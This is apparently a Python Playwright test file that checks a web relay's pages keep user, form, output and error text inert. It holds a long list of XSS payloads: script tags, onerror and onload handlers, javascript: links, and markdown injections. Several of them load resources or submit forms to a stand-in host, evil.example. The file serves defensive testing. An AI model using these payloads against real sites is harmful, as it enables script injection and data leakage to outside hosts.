"""Whatever anyone says stays text in a real browser, in which scripts would run."""

import json
from collections.abc import Iterator
from urllib.parse import quote, urlencode

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect

from relay.errors import AppFailed
from relay.page.answer import Page as Encoder
from relay.page.declared import Asking
from relay.page.turns import Turn, Turns
from tests.browser.conftest import PATIENCE_MS, Open
from tests.browser.site import Site
from tests.browser.visits import ask, ended, enter_key
from tests.browser.watch import Watch
from tests.relay.page.document import view
from tests.relay.page.test_answer_hostile import EVENTS, everywhere
from workspace.testing import Workspace

_RUNS = "alert(1)"
JSON = {"Content-Type": "application/json", "Accept": "text/html"}
PAYLOADS = (
    f"<script>{_RUNS}</script>",
    f"</textarea><script>{_RUNS}</script>",
    f"</title><script>{_RUNS}</script>",
    f"</style><script>{_RUNS}</script>",
    f"</template><script>{_RUNS}</script>",
    f"</option></select><script>{_RUNS}</script>",
    f"</details></div></article></main><script>{_RUNS}</script>",
    f"--><script>{_RUNS}</script>",
    f"<!--><script>{_RUNS}</script>-->",
    f"]]><script>{_RUNS}</script>",
    f"<ScRiPt >{_RUNS}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_RUNS}>",
    f'"><img src=x onerror={_RUNS}>',
    f"'><img src=x onerror={_RUNS}>",
    f"<img/src='x'/onerror={_RUNS}>",
    f"<image src=x onerror={_RUNS}>",
    f"<svg onload={_RUNS}>",
    f"<svg><animate onbegin={_RUNS} attributeName=x dur=1s>",
    f"<svg><script>{_RUNS}</script></svg>",
    f"<svg><a xlink:href=javascript:{_RUNS}><text>x</text></a></svg>",
    f"<math><mtext><style><img src=x onerror={_RUNS}></style></mtext></math>",
    f"<body onload={_RUNS}>",
    f"<video><source onerror={_RUNS}></video>",
    f"<audio src=x onerror={_RUNS}>",
    f"<details open ontoggle={_RUNS}>",
    f"<input autofocus onfocus={_RUNS}>",
    f"<select autofocus onfocus={_RUNS}>",
    f"<marquee onstart={_RUNS}>",
    f"<iframe src=javascript:{_RUNS}></iframe>",
    f"<iframe srcdoc='<script>{_RUNS}</script>'></iframe>",
    f"<object data=javascript:{_RUNS}></object>",
    f"<embed src=javascript:{_RUNS}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<form action=//evil.example><button>Send</button></form>",
    "<button formaction=//evil.example>Send</button>",
    "<div style=background:url(//evil.example/x)>x</div>",
    f"<a href=javascript:{_RUNS}>x</a>",
    f'" onmouseover="{_RUNS}" autofocus onfocus="{_RUNS}',
    f"' onfocus='{_RUNS}' autofocus x='",
    f"[x](javascript:{_RUNS})",
    f"[x](JaVaScRiPt:{_RUNS})",
    f"[x](&#106;avascript:{_RUNS})",
    f"[x](java\tscript:{_RUNS})",
    f"[x](data:text/html,<script>{_RUNS}</script>)",
    f"[x](vbscript:{_RUNS})",
    f'[x](https://evil.example/"onmouseover="{_RUNS})',
    "![x](https://evil.example/pixel.png)",
    f"![x](javascript:{_RUNS})",
    f'![x"onerror="{_RUNS}](//evil.example/x)',
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    f"<javascript:{_RUNS}>",
    f"[x]: javascript:{_RUNS}\n\n[x]",
    f"```<script>{_RUNS}</script>\n<img src=x onerror={_RUNS}>\n```",
    f"| <script>{_RUNS}</script> |\n|---|\n| <img src=x onerror={_RUNS}> |",
    f"`<img src=x onerror={_RUNS}>`",
    "{{ 7 * 7 }}{% raw %}${7 * 7}",
    f"&lt;script&gt;{_RUNS}&lt;/script&gt;",
    f"\u202e<script>{_RUNS}</script>\u2028\u0000",
    "<slot name=answer></slot><i class='back end d r' slot=answer></i>",
)
ALL = "\n\n".join(PAYLOADS)
SHORT = "\n".join(one for one in PAYLOADS if one.isprintable())[:1900]
LINE = " ".join(one for one in PAYLOADS if one.isprintable())[:1900]

# elements and attributes of which no page of the relay has any: each would be somebody else's
FOREIGN = """() => [...document.querySelectorAll('*')].filter(element =>
    element.matches(
        'script, img, image, svg, math, object, embed, base, video, audio, marquee'
        + ', link:not([rel=icon]), [http-equiv]'
    )
    || [...element.attributes].some(one => one.name.startsWith('on') || one.name === 'style')
    || (element.matches('a') && !/^(https?:|mailto:)/.test(element.href))
    || (element.matches('iframe') && element.name !== 'stop')
    || (element.matches('form, button') && !(element.formAction ?? element.action).startsWith(location.origin))
).map(element => element.outerHTML.slice(0, 200))"""


def dialogs_of(context: BrowserContext) -> list[str]:
    """Note what pages say in dialogs, and close them."""
    said: list[str] = []

    def close(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    context.on("dialog", close)
    return said


@pytest.fixture
def scripted(browser: Browser, workspace: Workspace, site: Site) -> Iterator[Page]:
    """A page with JavaScript, which nothing may run."""
    with browser.new_context(locale="en-GB") as opened:
        opened.set_default_timeout(PATIENCE_MS)
        watch = Watch(opened, workspace.url, site.url)
        dialogs = dialogs_of(opened)
        yield opened.new_page()
        watch.check()
        assert dialogs == []


def clean(page: Page) -> None:
    assert page.evaluate(FOREIGN) == []


def test_what_would_be_noticed_is(browser: Browser, site: Site) -> None:
    with browser.new_context() as opened:
        page = opened.new_page()
        dialogs = dialogs_of(opened)
        page.goto(site.page("".join(f"<img src=data:, onerror={_RUNS}><b onclick=x>y</b>" for _ in range(2))))
        assert len(page.evaluate(FOREIGN)) == 4
        expect(page.locator("b")).to_have_count(2)
        assert dialogs == ["1", "1"]


def test_questions_turns_and_answers_stay_text(scripted: Page, everyone: Open) -> None:
    scripted.goto(everyone("parrot", title=LINE[:60]))
    clean(scripted)
    for _ in range(2):
        ask(scripted, ALL)
        ended(scripted)
        clean(scripted)
    expect(scripted.locator("#now h2")).to_contain_text("<script>alert(1)</script>")
    expect(scripted.locator("#now .answer")).to_contain_text("<svg onload=alert(1)>")


def test_an_address_that_fills_the_form_stays_text(scripted: Page, everyone: Open) -> None:
    fields = {"city": LINE, "note": SHORT, "query": SHORT, "user": LINE[:200]}
    app = "chatform-text.city-paragraph.note-text.more.required"
    scripted.goto(f"{everyone(app)}?{urlencode(fields)}")
    clean(scripted)
    expect(scripted.get_by_label("Note")).to_have_value(SHORT)
    expect(scripted.get_by_label("Your question")).to_have_value(SHORT)


def test_names_options_and_defaults_of_inputs_stay_text(scripted: Page, with_key: Open) -> None:
    evil = [f'"><img src=x onerror={_RUNS}>', f"<b onclick={_RUNS}>", f"<svg onload={_RUNS}>"]
    kinds = ("text", "paragraph", "number", "checkbox", "json", "file", "files")
    fields = [f"{kind}.{name}{kind}.required" for kind in kinds for name in evil]
    fields += [f"select.{name}.options+{name}+{evil[0]}.default+{name}" for name in evil]
    fields += [f"text.x{number}.default+{name}" for number, name in enumerate(evil)]
    address = with_key(quote("form-" + "-".join(fields), safe=""), "workflow")
    scripted.goto(address)
    enter_key(scripted)
    expect(scripted.get_by_role("button", name="Sign out")).to_be_visible()
    scripted.goto(address)
    expect(scripted.locator("form.ask")).to_contain_text("<b onclick=alert(1)>text")
    expect(scripted.locator("form.ask")).to_contain_text("<svg onload=alert(1)>files")
    clean(scripted)


def test_outputs_stay_text(scripted: Page, everyone: Open) -> None:
    given = {
        "text": SHORT,
        LINE[:200]: LINE,
        "list": [*PAYLOADS],
        "table": [{one[:60]: one} for one in PAYLOADS[:5]],
        "deep": {one: [one] for one in PAYLOADS},
        "file": {"dify_model_identity": "__dify__file__", "type": "image", "filename": LINE, "url": LINE},
    }
    # as a program sends it that asks for a page: no form of ours has such inputs
    address = everyone("mirror")
    scripted.route(
        address, lambda route: route.continue_(method="POST", headers=JSON, post_data=json.dumps({"inputs": given}))
    )
    scripted.goto(address)
    ended(scripted)
    expect(scripted.locator("[slot=results]").first).to_contain_text("<script>alert(1)</script>")
    clean(scripted)


@pytest.mark.parametrize("number", [0, 20, 40])
def test_events_of_every_kind_stay_text(scripted: Page, site: Site, number: int) -> None:
    payload = " ".join(PAYLOADS[number : number + 25])
    encoder = Encoder(
        payload, view(Asking.CHAT, title=payload, turns=Turns(latest=(Turn(query=payload, answer=payload),)))
    )
    said = b"".join(encoder.event(everywhere(event, payload)) for event in EVENTS)
    page = encoder.opening() + said + encoder.error(AppFailed(payload)) + encoder.closing()
    scripted.goto(site.page(page.decode()))  # without the policy that stands in the head of our answers
    ended(scripted)
    clean(scripted)


@pytest.mark.parametrize("app", ["error-{}", "broken-1-0-{}", "errorevent-1-400-x-{}", "http-500-x-{}"])
def test_errors_stay_text(scripted: Page, with_key: Open, app: str) -> None:
    text = " ".join(one for one in PAYLOADS if one.isprintable() and not {"-", "/"} & {*one})[:500]
    scripted.goto(with_key(quote(app.format(text), safe="")))
    enter_key(scripted)
    ask(scripted, ALL)
    expect(scripted.locator("body")).to_contain_text("<svg onload=alert(1)>")
    expect(scripted.get_by_role("alert")).to_be_attached()
    clean(scripted)


def test_the_form_for_the_key_keeps_the_question_as_text(scripted: Page, with_key: Open) -> None:
    scripted.goto(f"{with_key('parrot')}?{urlencode({'query': LINE, 'key': LINE})}")
    expect(scripted.get_by_label("API key")).to_be_visible()
    clean(scripted)
